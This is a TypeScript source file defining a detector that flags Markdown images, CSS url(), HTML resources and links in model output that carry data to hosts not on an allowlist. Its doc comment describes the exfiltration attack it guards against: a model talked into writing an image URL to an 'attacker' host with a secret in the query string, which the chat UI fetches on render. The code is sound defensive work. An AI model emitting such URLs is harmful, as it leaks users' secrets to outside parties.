import { ConfigError, type ConfigIssue } from "../../core/config-error.js";
import { registerDetector, type DetectorDefinition } from "../../core/detector.js";
import type { Finding } from "../../core/finding.js";
import { findUrlSinks, type UrlSink } from "./find-url-sinks.js";
import { compileHostAllowlist, HOST_PATTERN } from "./host-allowlist.js";
import { measureUrlPayload, type UrlPayload } from "./measure-url-payload.js";

/** Options of the `exfiltration.url` detector (policy: `detection.detectorOptions["exfiltration.url"]`). */
export interface ExfilDetectorOptions {
  /** Hosts whose URLs are never reported: `cdn.example.com`, `*.example.com`, `.example.com`. */
  allowHosts: readonly string[];
  /** Also scan request texts (default false: exfiltration is about what a renderer does with model output). */
  requests: boolean;
}

export const EXFIL_DETECTOR_ID = "exfiltration.url";
/** Entity types: an auto-loading resource (image, frame, stylesheet) and a link, to a host not on the allowlist. */
export const EXFIL_TYPES = ["EXFIL_IMAGE", "EXFIL_LINK"] as const;

function parseOptions(raw: unknown): ExfilDetectorOptions {
  const opts: ExfilDetectorOptions = { allowHosts: [], requests: false };
  if (raw === undefined || raw === null) return opts;
  if (typeof raw !== "object" || Array.isArray(raw)) throw new ConfigError([{ path: "", message: "must be an object" }], `${EXFIL_DETECTOR_ID} options`);
  const issues: ConfigIssue[] = [];
  const r = raw as Record<string, unknown>;
  for (const k of Object.keys(r)) if (k !== "allowHosts" && k !== "requests") issues.push({ path: k, message: "unknown option" });
  if (r.allowHosts !== undefined) {
    if (!Array.isArray(r.allowHosts)) issues.push({ path: "allowHosts", message: "must be an array of host names" });
    else {
      r.allowHosts.forEach((h: unknown, i) => {
        if (typeof h !== "string" || !HOST_PATTERN.test(h)) issues.push({ path: `allowHosts[${i}]`, message: "must be a host name, *.domain or .domain (no scheme, port or path)" });
      });
      opts.allowHosts = r.allowHosts as string[];
    }
  }
  if (r.requests !== undefined) {
    if (typeof r.requests !== "boolean") issues.push({ path: "requests", message: "must be a boolean" });
    else opts.requests = r.requests;
  }
  if (issues.length > 0) throw new ConfigError(issues, `${EXFIL_DETECTOR_ID} options`);
  return opts;
}

const round = (n: number): number => Math.round(n * 100) / 100;

/**
 * Score of a sink: auto-loading resources leak on render (no click), so they start higher; data raises the score
 * with its amount and form. Links without data (documentation links) are not reported at all.
 */
export function scoreSink(autoLoad: boolean, p: UrlPayload): number | undefined {
  const amount = Math.min(1, p.dataChars / 200);
  if (autoLoad) {
    if (p.values === 0) return 0.45; // a tracking pixel at most: below the default threshold
    let s = 0.7 + 0.2 * amount + (p.sensitiveKey ? 0.1 : 0);
    if (p.strong) s = Math.max(s, 0.9 + 0.1 * amount);
    return round(Math.min(1, s));
  }
  if (p.values === 0) return undefined;
  let s = 0.3 + 0.3 * amount + (p.sensitiveKey ? 0.1 : 0);
  if (p.strong) s = Math.max(s, 0.6 + 0.3 * amount);
  return round(Math.min(0.95, s));
}

function explain(sink: UrlSink, p: UrlPayload): string {
  const what = sink.autoLoad ? `${sink.kind === "markdown-image" ? "Markdown image" : sink.kind === "reference" ? "referenced image" : sink.kind === "css-url" ? "CSS url()" : "HTML resource"} that loads on render` : `${sink.kind === "bare-url" ? "URL" : "link"}`;
  const data = p.values === 0 ? "carrying no data" : `carrying ~${p.dataChars} characters of data in ${p.values} value(s)${p.forms.length > 0 ? ` (${p.forms.join(", ")})` : ""}`;
  return `${what} to a host not on the allowlist, ${data}`;
}

/**
 * Exfiltration through output URLs: a model talked into writing `![](https://attacker/?d=<secret>)` makes the
 * chat UI fetch the URL when it renders the answer, sending the data without a click; links do the same on a click.
 * Reports each URL sink (see {@link findUrlSinks}) to a host not on the allowlist, scored by whether it auto-loads
 * and how much data its URL carries ({@link measureUrlPayload}). Response texts only, unless `requests` is set.
 */
export const exfilDetectorDefinition: DetectorDefinition<ExfilDetectorOptions> = {
  meta: {
    id: EXFIL_DETECTOR_ID,
    category: "exfiltration",
    entityTypes: EXFIL_TYPES,
    languages: ["*"],
    version: "1",
    description: "Markdown/HTML images, frames, CSS url() and links in output whose URL carries data to a host not on the allowlist",
  },
  parseOptions,
  create(options) {
    const allow = compileHostAllowlist(options.allowHosts);
    return {
      meta: exfilDetectorDefinition.meta,
      detect(input): Finding[] {
        if (input.context.direction === "request" && !options.requests) return [];
        const out: Finding[] = [];
        for (const sink of findUrlSinks(input.text)) {
          const p = measureUrlPayload(sink.url);
          // Relative URLs stay on the application's own origin.
          if (!p || p.host === "" || allow.allows(p.host)) continue;
          const score = scoreSink(sink.autoLoad, p);
          if (score === undefined) continue;
          const prev = out.at(-1);
          // One construct with several URLs (srcset, style + src): keep the strongest.
          if (prev && prev.start === sink.start && prev.end === sink.end) {
            if (score > prev.score) Object.assign(prev, { score, type: sink.autoLoad ? "EXFIL_IMAGE" : "EXFIL_LINK", explanation: explain(sink, p) });
            continue;
          }
          out.push({ detector: EXFIL_DETECTOR_ID, category: "exfiltration", type: sink.autoLoad ? "EXFIL_IMAGE" : "EXFIL_LINK", start: sink.start, end: sink.end, score, explanation: explain(sink, p) });
        }
        return out;
      },
    };
  },
};

export const exfilDetector = registerDetector(exfilDetectorDefinition);
